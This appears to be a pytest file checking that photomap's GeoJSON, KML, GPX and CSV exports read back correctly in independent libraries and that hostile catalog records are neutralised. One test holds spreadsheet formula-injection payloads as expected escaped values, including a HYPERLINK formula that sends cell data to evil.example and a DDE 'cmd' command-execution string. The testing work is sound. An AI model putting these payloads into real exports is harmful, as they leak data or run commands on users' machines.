# SPDX-License-Identifier: Apache-2.0
"""Each open format read back by a reader that is not photomap's code: geojson (validity),
lxml against OGC's KML 2.2 schema and fastkml, gpxpy, and Python's csv. Every listing is compared
with photomap's own JSON of the same listing, for the embedded catalog, hostile records and
photos without a coordinate."""

import csv
import io
import json
import pathlib
import re

import fastkml
import geojson
import gpxpy
import lxml.etree
import lxml.html
import pytest

from conftest import HOSTILE_OWNERS, HOSTILE_PLACE, HOSTILE_TITLES, NEW_YORK

KML_SCHEMA = pathlib.Path(fastkml.__file__).parent / "schema" / "ogckml22.xsd"
KML = "{http://www.opengis.net/kml/2.2}"

# (arguments, whether to use the hostile catalog): the listings every format is checked on.
LISTINGS = {
    "places": (["places"], False),
    "photos-new-york": (["photos", "--place", NEW_YORK, "--limit", "4000"], False),
    "photos-hostile": (["photos", "--place", HOSTILE_PLACE], True),
    "places-hostile": (["places"], True),
    "find": (["find", "Paris", "--limit", "3"], False),
    "search": (["search", "bridge", "theater", "--near", "40.76,-73.98", "--radius", "20"], False),
}


def xml_text(text):
    """What XML can hold of a text: photomap replaces the characters XML 1.0 forbids with U+FFFD,
    and a carriage return it writes as a reference, so it comes back as itself."""
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", "\ufffd", text)


@pytest.fixture(params=sorted(LISTINGS))
def listing(request, photomap, hostile_catalog):
    """(name, run(format) -> Run, the listing's records as photomap's JSON)."""
    arguments, hostile = LISTINGS[request.param]
    catalog = hostile_catalog if hostile else None

    def run(format_name):
        return photomap(*arguments, "--format", format_name, catalog=catalog)

    records = json.loads(run("json").stdout)
    assert records, "the listing is empty"
    return request.param, run, records


def test_the_hostile_records_are_listed(photomap, hostile_catalog):
    records = json.loads(photomap("photos", "--place", HOSTILE_PLACE, "--json", catalog=hostile_catalog).stdout)
    titles = [record["title"] for record in records]
    for title in HOSTILE_TITLES:
        assert title in titles
    assert {record["owner"] for record in records} >= set(HOSTILE_OWNERS)
    assert sum(record["latitude"] is None for record in records) == 2


def test_geojson(listing):
    name, run, records = listing
    collection = geojson.loads(run("geojson").stdout)
    assert collection.is_valid, collection.errors()
    assert collection["type"] == "FeatureCollection" and "crs" not in collection
    assert len(collection["features"]) == len(records)
    for feature, record in zip(collection["features"], records):
        assert feature["type"] == "Feature"
        if record["latitude"] is None:
            assert feature["geometry"] is None
        else:
            assert feature["geometry"]["type"] == "Point"
            # RFC 7946 §3.1.1: longitude first (the geojson package rounds to 6 decimals as it reads).
            assert feature["geometry"]["coordinates"] == pytest.approx([record["longitude"], record["latitude"]], abs=1e-6)
        properties = feature["properties"]
        assert {key: value for key, value in record.items() if key not in ("latitude", "longitude")} == properties


def test_kml_is_valid_kml_2_2(listing):
    name, run, records = listing
    document = lxml.etree.fromstring(run("kml").stdout)
    schema = lxml.etree.XMLSchema(lxml.etree.parse(str(KML_SCHEMA)))
    assert schema.validate(document), schema.error_log
    placemarks = document.findall(f"{KML}Document/{KML}Placemark")
    assert len(placemarks) == len(records)
    for placemark, record in zip(placemarks, records):
        assert placemark.findtext(f"{KML}name") == xml_text(record["title"])
        point = placemark.find(f"{KML}Point")
        if record["latitude"] is None:
            assert point is None
        else:
            longitude, latitude = map(float, point.findtext(f"{KML}coordinates").split(","))
            assert (longitude, latitude) == (record["longitude"], record["latitude"])
        data = {element.get("name"): element.findtext(f"{KML}value") for element in placemark.iter(f"{KML}Data")}
        assert data["id"] == xml_text(record["id"]) and data["kind"] == record["kind"]
        # The description is HTML: read as HTML it holds the subtitle as text, and no script or handler.
        description = placemark.findtext(f"{KML}description")
        html = lxml.html.fragment_fromstring(description, create_parent="div")
        assert not html.xpath("//script") and not any(key.startswith("on") for e in html.iter() for key in e.attrib)
        if record["subtitle"]:
            assert html.findtext("p") == xml_text(record["subtitle"])
        if record.get("thumbnailURL"):
            assert html.xpath("//img/@src") == [record["thumbnailURL"]]
        if record.get("pageURL"):
            assert html.xpath("//a/@href") == [record["pageURL"]]
            assert placemark.find("{http://www.w3.org/2005/Atom}link").get("href") == record["pageURL"]


def test_kml_reads_in_fastkml(listing):
    name, run, records = listing
    document = fastkml.KML.from_string(run("kml").stdout)
    placemarks = list(document.features[0].features)
    assert [placemark.name for placemark in placemarks] == [xml_text(record["title"]) for record in records]
    for placemark, record in zip(placemarks, records):
        if record["latitude"] is None:
            assert placemark.geometry is None
        else:
            assert (placemark.geometry.x, placemark.geometry.y) == (record["longitude"], record["latitude"])


def test_gpx(listing):
    name, run, records = listing
    result = run("gpx")
    gpx = gpxpy.parse(result.text)
    located = [record for record in records if record["latitude"] is not None]
    assert len(gpx.waypoints) == len(located)
    if len(located) < len(records):
        assert f"{len(records) - len(located)} of {len(records)} records have no coordinate" in result.stderr
    for waypoint, record in zip(gpx.waypoints, located):
        assert waypoint.name == xml_text(record["title"])
        assert (waypoint.latitude, waypoint.longitude) == (record["latitude"], record["longitude"])
        assert (waypoint.description or "") == xml_text(record["subtitle"])
        assert waypoint.type == record["kind"]
        if record.get("dateTaken"):
            assert waypoint.time.strftime("%Y-%m-%d %H:%M:%S") == record["dateTaken"]
        if record.get("pageURL"):
            assert waypoint.link == record["pageURL"]


def test_csv(listing):
    name, run, records = listing
    data = run("csv").stdout
    assert b"\r\n" in data and not data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert len(rows) == len(records)
    for row, record in zip(rows, records):
        for key, value in record.items():
            if value is None:
                assert row[key] == ""
            elif isinstance(value, (int, float)):
                assert float(row[key]) == value
            elif isinstance(value, dict):
                # A nested object (a photo's licence) is its values in one cell.
                assert row[key] == " ".join(str(part) for part in value.values() if part not in (None, ""))
            elif value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert row[key] == "'" + value
            else:
                assert row[key] == value
        # No text cell a spreadsheet would run: every cell is a number or starts harmlessly.
        for key, cell in row.items():
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)


def test_csv_neutralises_the_hostile_formulas(photomap, hostile_catalog):
    data = photomap("photos", "--place", HOSTILE_PLACE, "--format", "csv", catalog=hostile_catalog).text
    rows = list(csv.DictReader(io.StringIO(data, newline="")))
    titles = {row["title"] for row in rows}
    assert "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")' in titles
    assert {"'+1+2", "'-2+3", "'@SUM(A1:A2)", "Line one\nLine two\r\nLine three", "שלום עולם"} <= titles
    assert {row["owner"] for row in rows} >= {"'\tTabbed owner", "'\rReturned owner", "'=cmd|' /C calc'!A0"}


def test_output_file_is_the_same_listing(photomap, tmp_path):
    for extension in ("geojson", "kml", "gpx", "csv", "json"):
        result = photomap("places", "--output", f"places.{extension}")
        assert result.stdout == b""
        assert (tmp_path / f"places.{extension}").read_bytes() == photomap("places", "--format", extension).stdout
    assert not [path.name for path in tmp_path.iterdir() if path.name.startswith(".tmp-")]
